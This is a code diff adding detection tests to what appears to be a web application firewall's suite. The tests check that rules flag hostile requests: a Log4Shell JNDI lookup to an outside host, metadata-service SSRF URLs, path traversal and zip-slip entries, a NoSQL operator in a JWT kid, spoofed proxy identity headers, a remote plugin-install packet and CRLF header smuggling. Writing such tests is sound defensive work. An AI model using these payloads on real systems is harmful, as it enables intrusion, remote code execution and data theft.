@@ -348,3 +348,117 @@ describe("Jenkins' CLI frames (body/cli-frames.ts)", () => {
     expect(cli(almost)).toEqual([]);
   });
 });
+
+describe("tokens, identities and paths a gateway trusts (the fortieth set's classes)", () => {
+  const b64 = (o: unknown) => btoa(JSON.stringify(o)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
+  const jwt = (h: unknown, p: unknown) => `${b64(h)}.${b64(p)}.c2ln`;
+  const bearer = (h: unknown, p: unknown) => header("authorization", `Bearer ${jwt(h, p)}`);
+
+  it("scans a bearer token's claims as values, a loopback issuer aside", () => {
+    expect(bearer({ alg: "RS256", kid: "k1" }, { sub: "u9", name: "${jndi:ldap://x.oast.fun/a}" })).toContain(
+      "944150@header:authorization.jwt.name",
+    );
+    expect(bearer({ alg: "HS256" }, { sub: "u1", tenant: "../../tenants/acme/admin" })).toContain(
+      "930110@header:authorization.jwt.tenant",
+    );
+    expect(bearer({ alg: "RS256" }, { sub: "u1", iss: "http://169.254.169.254/latest/meta-data" })).toContain(
+      "934110@header:authorization.jwt.iss",
+    );
+    expect(bearer({ alg: "RS256" }, { sub: "u1", iss: "http://localhost:8080/realms/dev", aud: "account" })).toEqual(
+      [],
+    );
+    expect(
+      bearer({ alg: "RS256", kid: "k1" }, { sub: "8f2c", name: "Siobhán O'Brien", scope: "openid profile email" }),
+    ).toEqual([]);
+  });
+
+  it("reads a kid that is an object as JSON (a store's operator)", () => {
+    expect(bearer({ alg: "HS256", kid: { $ne: null } }, { sub: "admin" })).toContain(
+      "942290@header:authorization.jwt.kid",
+    );
+  });
+
+  it("reads a token in a WebSocket subprotocol list", () => {
+    expect(header("sec-websocket-protocol", `bearer, ${jwt({ alg: "none" }, { sub: "ops-admin" })}`)).toContain(
+      "920253@header:sec-websocket-protocol",
+    );
+    expect(header("sec-websocket-protocol", "graphql-transport-ws")).toEqual([]);
+  });
+
+  it("takes an authenticating proxy's identity headers from a client, not from a trusted proxy", () => {
+    expect(header("x-forwarded-user", "admin")).toContain("920275@header:x-forwarded-user");
+    expect(header("x-consumer-username", "admin")).toContain("920275@header:x-consumer-username");
+    expect(header("x-amzn-oidc-identity", "admin")).toContain("920275@header:x-amzn-oidc-identity");
+    expect(header("x-apigateway-event", "%7B%7D")).toContain("920275@header:x-apigateway-event");
+    const proxied = {
+      headers: [
+        ["host", "app.example.com"],
+        ["x-forwarded-user", "jdoe"],
+      ] as Array<[string, string]>,
+    };
+    expect(where({ ...proxied, viaTrustedProxy: true })).toEqual([]);
+  });
+
+  it("takes Connection naming an mTLS proxy's identity header", () => {
+    expect(header("connection", "close, X-Forwarded-Client-Cert")).toContain("920257@header:connection");
+  });
+
+  it("takes a path servers read differently from a rule that compares it as written", () => {
+    expect(path("/actuator;/env")).toContain("920280@path");
+    expect(path("/api/v1/%2e/internal/export")).toContain("920280@path");
+    expect(path("/admin%09/config")).toContain("920280@path");
+    expect(path("/shop;jsessionid=0A1B2C3D/cart")).toEqual([]);
+    expect(path("/files/v1.%2e.tar.gz")).toEqual([]);
+    expect(path("/api/v1/items/42")).toEqual([]);
+  });
+
+  it("reads a hex-encoded URL in a path segment (a camo proxy's)", () => {
+    const hex = [...new TextEncoder().encode("http://169.254.169.254/latest/meta-data/")]
+      .map((b) => b.toString(16).padStart(2, "0"))
+      .join("");
+    expect(path(`/external_content/b1946ac9/${hex}`)).toContain("934110@path.hex");
+    const fine = [...new TextEncoder().encode("https://images.example.org/a.png")]
+      .map((b) => b.toString(16).padStart(2, "0"))
+      .join("");
+    expect(path(`/camo/0f3a/${fine}`)).toEqual([]);
+  });
+});
+
+describe("bodies read for what a server makes of them", () => {
+  const body = (bytes: string | Uint8Array, contentType: string) =>
+    where({
+      method: "POST",
+      body: {
+        bytes: typeof bytes === "string" ? new TextEncoder().encode(bytes) : bytes,
+        contentType,
+        truncated: false,
+      },
+    });
+
+  it("reads Socket.IO's polling packets as JSON", () => {
+    expect(
+      body(
+        '42/pluginfw/installer,["install",{"plugin":"ep_x","url":"http://198.51.100.23/x.tgz"}]',
+        "text/plain;charset=UTF-8",
+      ),
+    ).toContain("931100@body:json.socketio.1.url");
+    expect(body('42["chat",{"text":"see you at 5 o\'clock"}]', "text/plain;charset=UTF-8")).toEqual([]);
+  });
+
+  it("reads the entry names of an archive posted whole", () => {
+    const name = "../../../../mailboxd/webapps/zimbraAdmin/x.jsp";
+    const zip = `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000C\u0019nTKeg.\u0018\u0001\u0000\u0000\u0018\u0001\u0000\u0000${String.fromCharCode(name.length)}\u0000\u0000\u0000${name}<%@ page %>`;
+    const bytes = Uint8Array.from(zip, (ch) => ch.charCodeAt(0));
+    expect(body(bytes, "application/octet-stream").some((m) => m.startsWith("930110@body:raw.archive.entry0"))).toBe(
+      true,
+    );
+  });
+
+  it("reads a JSON document in a plain multipart field as a form's", () => {
+    const v = JSON.stringify({ "X-Trace": "1\r\nHost: 127.0.0.1\r\n\r\nGET /admin HTTP/1.1" });
+    const mp = `--B\r\nContent-Disposition: form-data; name="extraHttpHeaders"\r\n\r\n${v}\r\n--B--\r\n`;
+    expect(body(mp, "multipart/form-data; boundary=B")).toContain(
+      "921110@body:multipart.extraHttpHeaders.json.X-Trace",
+    );
+  });
+});
